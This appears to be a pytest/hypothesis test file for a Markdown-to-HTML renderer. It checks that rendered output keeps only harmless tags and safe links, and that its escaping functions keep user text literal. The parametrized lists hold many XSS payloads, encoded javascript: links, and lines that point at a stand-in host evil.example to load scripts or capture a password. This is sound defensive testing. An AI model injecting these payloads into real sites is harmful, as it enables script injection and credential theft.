"""Text of a model becomes HTML that does nothing."""

from html.parser import HTMLParser

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from generation.core.markup import defused, escape, to_html
from tests.core.renderers import SAFE_LINKS, assert_harmless

TAGS = frozenset(
    "h1 h2 h3 h4 h5 h6 p br hr ul ol li strong em code pre blockquote table thead tbody tr th td a".split()
)


class Page(HTMLParser):
    """What a browser would make of a piece of HTML."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str | None]] = []
        self.texts: list[str] = []
        self.cells: list[str] = []
        self.others: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes += [(tag, name, value) for name, value in attrs]
        if tag in {"td", "th"}:
            self.cells.append("")

    def handle_data(self, data):
        self.texts.append(data)
        if self.cells:
            self.cells[-1] += data

    def handle_comment(self, data):
        self.others.append(data)

    handle_decl = handle_pi = unknown_decl = handle_comment

    @property
    def text(self) -> str:
        return flat("".join(self.texts))


def flat(text: str) -> str:
    return " ".join(text.split())


def assert_inert(html: str) -> Page:
    page = Page(html)
    assert set(page.tags) <= TAGS
    assert page.others == []
    for tag, name, value in page.attributes:
        assert (tag, name) in {("a", "href"), ("a", "title"), ("a", "rel")}
        assert name != "href" or (value or "").lower().startswith(SAFE_LINKS)
    return page


@pytest.mark.parametrize("payload", [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<form action=https://evil.example><input name=password></form>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<base href=https://evil.example>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<!-- --!><script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](ftp://evil.example/x)",
    "[x](tel:+4990012345)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "[x](https://a.example\" onmouseover=\"alert(1))",
    "[x](https://a.example 'title\" onclick=\"alert(1)')",
    "![x](https://tracker.example/pixel.png)",
    "![x](javascript:alert(1))",
    "# <svg onload=alert(1)>",
    "`</code><script>alert(1)</script>`",
    "```\"><script>alert(1)</script>\n</code></pre><script>alert(2)</script>\n```",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "\0<script>alert(1)</script>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
])
def test_hostile_markdown_is_inert(payload):
    assert_inert(to_html(payload))
    escaped = assert_inert(to_html(escape(payload)))
    assert set(escaped.tags) <= {"p"}


@given(st.text(st.sampled_from("<>[]()!\"'`#|-&;:=/ \n\tajvscript:htp")) | st.text())
@settings(max_examples=100, deadline=None)
def test_whatever_is_rendered_is_inert(text):
    if "](" not in text:      # a relative link is no script, but where it leads is another test's business
        assert_inert(to_html(text))
    assert set(Page(to_html(text)).tags) <= TAGS


@pytest.mark.parametrize("url", ["https://who.example/a", "http://who.example/a?b=c", "mailto:ann@who.example"])
def test_links_to_the_web_and_to_mail_are_kept_and_vouch_for_nothing(url):
    page = Page(to_html(f"[read]({url})"))
    assert page.attributes == [("a", "href", url), ("a", "rel", "nofollow noopener noreferrer")]


def test_tables_are_kept():
    page = Page(to_html("| Lift | Sets |\n|---|---|\n| Squat | 5 |"))
    assert page.tags == ["table", "thead", "tr", "th", "th", "tbody", "tr", "td", "td"]
    assert [cell.strip() for cell in page.cells] == ["Lift", "Sets", "Squat", "5"]


def test_html_in_markdown_is_shown_as_it_was_written():
    assert Page(to_html("<h1>a</h1> b<br>c <b>d</b>")).text == "<h1>a</h1> b<br>c <b>d</b>"


def test_usual_markdown_is_kept():
    page = Page(to_html("# A\n\n*b* **c** `d`\n\n- e\n\n1. f\n\n> g\n\n---\n\n    h"))
    assert page.tags == "h1 p em strong code ul li ol li blockquote p hr pre code".split()


# --- escape: text that means nothing but itself ---------------------------------------------------

# Mostly what means something in Markdown; and anything that JSON and a database can hold.
_STORABLE = st.characters(exclude_categories=["Cs"], exclude_characters="\0")
TEXTS = st.text(st.sampled_from("\\`*_{}[]()<>#+-.!|~&;:=^\"'/@19 \t\nax")) | st.text(_STORABLE)
tricky = [
    "1. not a list", "2) nor this", "- nor this", "+ 5 kg", "= 5", "# 1", "&amp; is an entity", "&lt;b&gt;", "&#65;",
    "&copy 2024", "a \\| b", "ends with \\", "**bold**", "_x_", "[a](http://b.example)", "<http://b.example>",
    "http://b.example", "~~~", "```", "> quote", "***", "---", "===", "[x]: /y", "![i](j)", "a\n\n# b", "   x",
    "5 * 3 * 2", "snake_case_name", "R&D", "!", "10000000000. far", "1.", "-", "1\\. x",
]


def with_tricky(test):
    for text in tricky:
        test = example(text)(test)
    return test


@with_tricky
@given(TEXTS)
@settings(max_examples=100, deadline=None)
def test_escaped_text_reads_as_it_was_written(text):
    page = assert_inert(to_html(escape(text)))
    assert page.text == flat(text)
    assert set(page.tags) <= {"p"}


@with_tricky
@given(TEXTS)
@settings(max_examples=100, deadline=None)
def test_escaped_text_stays_in_its_place(text):
    """In a heading, a list, behind a bold word and in a table, whatever it contains."""
    safe = escape(text)
    page = assert_inert(to_html(f"# {safe}\n\n- {safe}\n\n**b** {safe}\n\n| {safe} | z |\n|---|---|\n| y | {safe} |"))
    assert page.tags == "h1 ul li p strong table thead tr th th tbody tr td td".split()
    assert [flat(cell) for cell in page.cells] == [flat(text), "z", "y", flat(text)]


@pytest.mark.parametrize("text", [
    "3 x 8 @ RPE 7-8", "5*5", "3 * 8", "a_b", "snake_case_name", "~10 min", "x < 5 and y >= 3", "R&D", "C#", "50 %",
    "-5 kg", "+1 set", "{weeks}", "Why? Because!", "(optional)", "2 = 1 + 1", "10.5 km",
])
def test_usual_words_take_no_backslash(text):
    assert escape(text) == text


# --- What others make of it: a renderer that believes everything ----------------------------------

HOSTILE = [
    "<script>alert(1)</script>", "a <b>b</b>", "<!-- hidden -->", "<?php ?>", "<![CDATA[x]]>", "<!DOCTYPE html>",
    "text\n<div onclick=x>\n\nmore", "> <b>\n> c", "- <i>x", "\\<b>", "\\\\<b>", "<<b>", "<b", "<b\n>",
    "[x](javascript:alert(1))", "[x]( JaVaScRiPt:alert(1))", "[x](<javascript:alert(1)>)", "[x](\njavascript:x)",
    "[x](java&#115;cript:x)", "[x](&#x6A;avascript:x)", "[x](javascript&colon;x)", "[x](java%73cript:x)",
    "[x](\\javascript:x)", "[x](\x01javascript:x)", "[x](data:text/html,x)", "[x](vbscript:x)", "[x]()", "[x](/y)",
    "[x](//evil.example)", "<javascript:alert(1)>", "<JAVASCRIPT:alert`1`>", "<data:text/html,x>",
    "[x][y]\n\n[y]: javascript:x", "[y]\n\n[y]:\n  javascript:x",
    "> [y]: javascript:x\n\n[y]", "[a`b]: data:x\n\n[a`b] `",
    "[a\nb]: javascript:x\n\n[a b]", "- [y]: javascript:x\n\n[y]", "1. [y]: <vbscript:x>\n\n[y][]",
    "[a\\]b]: data:x\n\n[a\\]b]",
    "![x](https://tracker.example/p.png)", "![x][y]\n\n[y]: https://a.example", "[![x](data:y)](https://a.example)",
    "[x](https://a.example \"](javascript:y)\")", "`a` <b> `", "``a` <b>", "- `a\n- <b>`", "| `a | <b>` |\n|---|---|",
    "| a |\n|---|\n| ` |\n| <b> ` |", "| a |\n|---|\n    <b>x", "> a\n> ===\n>     <b>", "a\n    <b>", "# `a\n<b>`",
    "<https://a`b> <b> `", "```\n<b>\n```\n<i>", "~~~ `\n~~~\n<b>`", "- ```\n<b>", "\t<b>\n\n1. x\n\n\t<b>", "<\0b>",
    "Use `x\n<script>alert(1)</script>` here.", "`x\n<div onclick=x>\n`", "> `x\n> <div>`", "> `x\n<div>`",
    "- `x\n  <!-- y`", "- `x\n- <div>`", "1. `x\n   <?y`", "`x\n   <![CDATA[`", "`x\n<https://a.example>`",
    "a\r<img src=x onerror=alert(1)>\rb `q`", "# T\r\r\r\r\rtext <b>x</b>", "`a\r<div>`", "a\r\n\r\n    <b>\r<i>",
    "\r<b>", "`\\` <b> `", "\\`<b>`", "[x](https://)", "[x](http://\n)", "[x](mailto:)", "<b\u2028>",
]


def with_hostile(test):
    for text in HOSTILE:
        test = example(text)(test)
    return test


PARTS = st.lists(st.sampled_from([
    "<b>", "<div>", "<script>", "`x\n<div>`", "\r", "<", ">", "</", "<!--", "-->", "[", "]", "](", "]:", "(", ")", "!",
    "`", "``", "```", "~~~", "\\", "\n", "\n\n", " ", "    ", "\t", "> ", "- ", "1. ", "| ", "|---|", "\n|-|-|\n",
    "===", "---", "# ", "javascript:x", "https://a.example", "data:y", "<javascript:z>", "<https://b.example>", "[y]: ",
    "[y]", "&#106;", "&lt;", "a", "\"", "'", "_", "*", "~",
]), max_size=24).map("".join)


@with_hostile
@given(PARTS | st.text())
@settings(max_examples=300, deadline=None)
def test_markdown_that_is_given_out_holds_no_html_and_leads_nowhere_strange(text):
    """Whatever reads it, on whatever line it stands."""
    assert_harmless(defused(text))
    safe = escape(text)
    table = f"| {safe} | z |\n|---|---|\n| y | {safe} |"
    assert_harmless(f"# {safe}\n\n{safe}\n\n- {safe}\n\n**b** {safe}: {safe}\n\n{table}")


@pytest.mark.parametrize("text", [
    "x < 5 and *more*", "[site](https://a.example/b?c=d#e)", "<https://a.example>", "[mail](mailto:ann@a.example)",
    "- [ ] a task", "`<b>` and ``<i> ` ``", "```html\n<b>&amp;</b> ![x](y)\n```", "    <b>", "use `d[int]: 5` here",
    "| a | b |\n|---|---|\n| `<b>` | 1 |", "[y]\n\n[y]: https://a.example", "array[i] = 3; if (a<5) b", "Wow!", "a]b",
])
def test_markdown_that_does_no_harm_stays_to_the_letter(text):
    assert defused(text) == text


def test_what_is_taken_from_markdown_is_shown_as_it_was_written():
    page = Page(to_html(defused("<b>bold</b> [x](javascript:y) ![z](https://a.example)")))
    assert page.text == "<b>bold</b> [x](javascript:y) !z"
